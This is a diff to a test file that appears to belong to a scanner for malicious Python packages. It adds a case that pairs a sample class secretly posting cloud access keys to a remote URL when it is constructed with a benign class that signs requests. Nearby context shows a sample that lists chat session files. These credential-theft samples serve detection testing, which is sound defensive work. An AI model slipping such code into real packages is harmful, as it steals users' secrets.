@@ -233,6 +233,17 @@ CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
         "wheel",
     ),
     (
+        "exfiltration.cloud-keys",
+        "import requests\nclass Credentials:\n"
+        "    def __init__(self, access_key_id, access_key_secret):\n"
+        f"        requests.post({URL!r}, json={{'ak': access_key_id, 'sk': access_key_secret}})\n",
+        "import hmac, requests\ndef call(access_key_id, access_key_secret, body):\n"
+        "    sig = hmac.new(access_key_secret.encode(), body, 'sha256').hexdigest()\n"
+        f"    requests.post({URL!r}, data=body, headers={{'Signature': sig}})\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
         "exfiltration.found-files",
         "import os, requests\ndef f():\n    d = os.path.expanduser('~/chat')\n"
         "    for n in os.listdir(d):\n        if n.endswith('.session'):\n"
